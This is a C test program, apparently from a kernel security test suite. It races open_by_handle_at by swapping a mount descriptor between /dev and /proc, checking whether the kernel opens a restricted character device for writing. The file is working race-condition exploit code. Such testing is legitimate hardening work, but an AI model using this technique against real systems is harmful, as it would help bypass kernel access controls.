// open_by_handle_at(2) judges a file before it opens it for writing. One handle is good on two mounts: a thread
// exchanges the descriptor that names the mount (/dev, /proc). If the judgement decodes the handle on one and the
// open decodes it on the other, the kernel opens a device that may not be opened for writing (/dev/uhid: the kernel
// then says ENODEV if it has no such driver).
#include "attack.h"
#include <pthread.h>
#include <sys/sysmacros.h>

#define MOUNT 50

static int right, wrong;

static void *flip(void *unused) {
    for (;;) {
        dup2(right, MOUNT);
        dup2(wrong, MOUNT);
    }
    return unused;
}

int main(void) {
    union {
        struct file_handle h;
        char room[sizeof(struct file_handle) + 128];
    } u = {.h = {.handle_bytes = 128}};
    long tries = 0;
    int mount;
    pthread_t thread;
    if (mknod("/dev/victim", S_IFCHR | 0600, makedev(10, 239)) < 0)
        attack_broken("mknod");
    right = open("/dev", O_RDONLY | O_DIRECTORY);
    wrong = open("/proc", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, "/dev/victim", &u.h, &mount, 0) < 0)
        attack_broken("name_to_handle_at");
    if (open_by_handle_at(right, &u.h, O_WRONLY) >= 0 || errno != EPERM)
        attack_won("the device is opened by its handle: %s", strerror(errno));
    dup2(right, MOUNT);
    pthread_create(&thread, NULL, flip, NULL);
    while (!attack_over()) {
        int fd = open_by_handle_at(MOUNT, &u.h, O_WRONLY);
        tries++;
        if (fd >= 0 || errno == ENODEV || errno == ENXIO)
            attack_won("try %ld: the kernel has opened the device: %s", tries,
                       fd < 0 ? strerror(errno) : "open");
    }
    attack_lost();
}
